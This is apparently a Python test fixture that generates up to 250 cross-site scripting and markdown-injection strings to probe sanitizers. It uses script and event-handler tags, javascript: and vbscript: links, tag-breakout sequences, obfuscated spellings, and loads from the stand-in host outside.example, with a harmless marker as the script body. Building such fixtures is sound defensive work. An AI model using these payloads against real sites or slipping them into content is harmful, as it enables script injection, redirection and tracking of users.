"""Strings that try to run, to load something, or to turn the writing around, wherever they land."""

from __future__ import annotations

import random
from collections.abc import Iterator

_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<body onload={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<iframe src='javascript:{}'></iframe>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<input autofocus onfocus={}>",
    "<a href='javascript:{}'>x</a>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror={}></style></mtext></svg>",
    "<form><button formaction='javascript:{}'>x</button></form>",
    "<object data='javascript:{}'></object>",
    "<embed src='javascript:{}'>",
    "<style>@import 'http://outside.example/x.css';</style><script>{}</script>",
    "<link rel=stylesheet href=http://outside.example/x.css><script>{}</script>",
    "<base href=http://outside.example/><script>{}</script>",
    "<meta http-equiv=refresh content='0;url=http://outside.example/'><script>{}</script>",
    "<marquee onstart={}>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "--><script>{}</script>",
    "'\"><script>{}</script>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "<!--[if IE]><script>{}</script><![endif]-->",
    "<x onclick={} tabindex=1 onfocus={}>",
)
_MARKDOWN = (
    "[x](javascript:{})",
    "[x](JaVaScRiPt:{})",
    "[x](java\tscript:{})",
    "[x](&#106;avascript:{})",
    "[x](data:text/html,<script>{}</script>)",
    "[x](vbscript:{})",
    "![x](javascript:{})",
    "![x](http://outside.example/pixel.png?{})",
    "[![x](http://outside.example/pixel.png)](javascript:{})",
    "[x]: javascript:{}\n\n[x]",
    "<javascript:{}>",
    '[x](http://outside.example "onmouseover={}")',
    "[x](http://outside.example/\"onmouseover='{}')",
    "```<img src=x onerror={}>\n</code></pre><script>{}</script>\n```",
    "`</code><script>{}</script>`",
    "| <img src=x onerror={}> |\n|---|\n| <script>{}</script> |",
    "# <img src=x onerror={}>",
    "- [ ] <img src=x onerror={}>",
    "> <svg onload={}>",
    "~~<script>{}</script>~~",
    "<div markdown=1><img src=x onerror={}></div>",
    "http://outside.example/<script>{}</script>",
)
_RUN = "window.ran=1"
_REPLACED = ((" ", "/"), ("<", "\u202e<"), ("=", " = "), ("<", "<\x00"), ("e", "E"))
"""Ways to spell them, beside the plain one."""


def payloads(count: int = 250, seed: int = 8) -> list[str]:
    """As many, all different, the plain ones first."""
    found = dict.fromkeys(_spelled())
    dice = random.Random(seed)
    plain = list(found)
    while len(found) < count:
        found[dice.choice(plain) + dice.choice(plain)] = None
    return list(found)[:count]


def _spelled() -> Iterator[str]:
    plain = [shape.replace("{}", _RUN) for shape in (*_TAGS, *_MARKDOWN)]
    yield from plain
    for old, new in _REPLACED:
        yield from (text.replace(old, new) for text in plain)
